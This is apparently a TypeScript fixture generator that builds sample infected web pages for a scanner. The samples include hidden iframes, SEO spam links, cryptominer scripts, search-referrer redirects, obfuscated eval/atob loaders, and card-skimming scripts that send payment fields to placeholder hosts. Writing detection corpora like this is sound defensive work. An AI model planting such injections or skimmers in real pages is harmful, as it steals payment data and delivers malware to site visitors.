/** Pages into which something was put; our own writing. */
import { backwards, base64, letters, percent } from './pieces.ts';
import { fill, sample, type Sample } from './sample.ts';

const frame = '<ifr«»ame src="http://bad-host.invalid/in.php" width=1 height=1></ifr«»ame>';
const links = (n: number): string => Array.from({ length: n }, (_, i) => `<a href="http://seo-site-${i}.invalid/">good shoes</a>`).join(' ');
const wrap = (inner: string, after = ''): string => `<!DOCTYPE html>\n<html><head><title>Tea house</title></head>\n<body>\n<h1>Tea</h1>\n<p>We sell tea.</p>\n${inner}\n</body>\n</html>${after}\n`;
const script = (code: string): string => wrap(`<script>${code}</script>`);
const loader = "var s = document.createElement('script'); s.src = 'https://bad-host.invalid/a.js'; document.head.appendChild(s);";

const ways: Readonly<Record<string, readonly string[]>> = {
  'hidden frame': [wrap(frame), wrap('<ifr«»ame src="//bad-host.invalid/x" style="display:none"></ifr«»ame>'), wrap('<div><ifr«»ame style="position:absolute;left:-9999px" src=\'https://203.0.113.5:8080/x\'></ifr«»ame></div>'), wrap('<IFR«»AME SRC=http://bad-host.invalid/ WIDTH=0 HEIGHT=0 FRAMEBORDER=0></IFR«»AME>'), wrap('', frame), wrap('<ifr«»ame src="https://bad-host.invalid/q" style="visibility: hidden; width:0"></ifr«»ame>')],
  'after the end': [wrap('', '<script src="http://bad-host.invalid/j.js"></script>'), wrap('', '\n\n<script type="text/javascript" src="//203.0.113.9/s.js"></script>'), wrap('', '<meta http-equiv="refresh" content="0;url=http://bad-host.invalid/">')],
  'spam links': [wrap(`<div style="display:none">${links(12)}</div>`), wrap(`<div style="position:absolute;left:-5000px">${links(9)}</div>`), wrap(`<marquee width=1 height=1>${links(8)}</marquee>`), wrap(`<span style="font-size:0px">${links(10)}</span>`), wrap('<p style="text-indent:-9999px">六合彩 <a href="http://a1.invalid">开户</a> <a href="http://a2.invalid">博彩</a></p>'), '<html><head><title>&#21338;&#24425;&#20844;&#21496;&#24320;&#25143;</title></head><body>Tea</body></html>', wrap(`<div style="height:0;overflow:hidden">${links(8)}</div>`)],
  miner: [wrap('<script src="https://coinhive.com/lib/coinhive.min.js"></script>'), script("var m = new CoinHive.Anonymous('abcdefgh12345678', { throttle: 0.3 }); m.start();"), script("new Client.Anonymous('abcdefgh12345678').start();"), script("var w = new WebSocket('wss://pool.bad-host.invalid/'); w.onopen = function () { start('cryptonight', w); };")],
  redirect: [script("if (/baidu|sogou|google/.test(document.referrer)) { location.href = 'http://bad-host.invalid/'; }"), script("var r = document.referrer; if (r.indexOf('baidu.com') > 0) { window.location.replace('https://bad-host.invalid/x'); }"), script("if (!/Baiduspider|Googlebot/i.test(navigator.userAgent)) { document.write('<script src=\"https://bad-host.invalid/a.js\"><\\/script>'); }")],
  loader: [script(`document.write(unescape('${percent(frame)}'));`), script(`eval(unescape('${percent(loader)}'));`), script(`eval(String.fromCharCode(${letters(loader)}));`), script(`eval(atob('${base64(loader)}'));`), script(`document.write(atob('${base64(frame)}'));`), script(`var a = '${base64(loader)}'; var b = window['at' + 'ob'](a); window['ev' + 'al'](b);`), script(`var s = document.createElement('script'); s.src = atob('${base64('https://bad-host.invalid/z.js')}'); document.head.appendChild(s);`), script(`new Function(decodeURIComponent('${percent(loader)}'))();`), script(`eval(atob('${base64(backwards(loader))}').split('').reverse().join(''));`), script(`var c = [${letters(loader)}]; eval(String.fromCharCode.apply(null, c));`)],
  skimmer: [script("document.querySelector('#payment_form').addEventListener('submit', function () { var d = {}; document.querySelectorAll('input').forEach(function (i) { d[i.name] = i.value; }); if (d.cc_number && d.cvv) { new Image().src = 'https://bad-host.invalid/i.gif?d=' + btoa(JSON.stringify(d)); } }); // checkout"), script("var f = document.getElementsByTagName('input'), o = []; for (var i = 0; i < f.length; i++) o.push(f[i].name + encodeURIComponent(f[i].value)); if (/checkout|cardnumber|cvc|expiry/.test(o.join())) fetch('https://bad-host.invalid/c', { method: 'POST', body: JSON.stringify(o) });")],
};

export function pageSamples(): Sample[] {
  const bytes = (text: string): string => Buffer.from(fill(text), 'utf8').toString('latin1');
  return [...Object.entries(ways).flatMap(([family, pages]) => pages.map((page, i) => sample(`page ${family}`, `page ${family} ${i + 1}`, bytes(page), '/var/www/html/index.html'))),
    sample('page loader', 'library with a tail', `(function () { var tea = 1; window.tea = tea; })();\neval(atob('${base64(loader)}'));\n`, '/var/www/html/lib.js'), sample('page hidden frame', 'in a PHP page', `<?php echo 'tea'; ?>\n${wrap(frame)}`, '/var/www/html/index.php')];
}
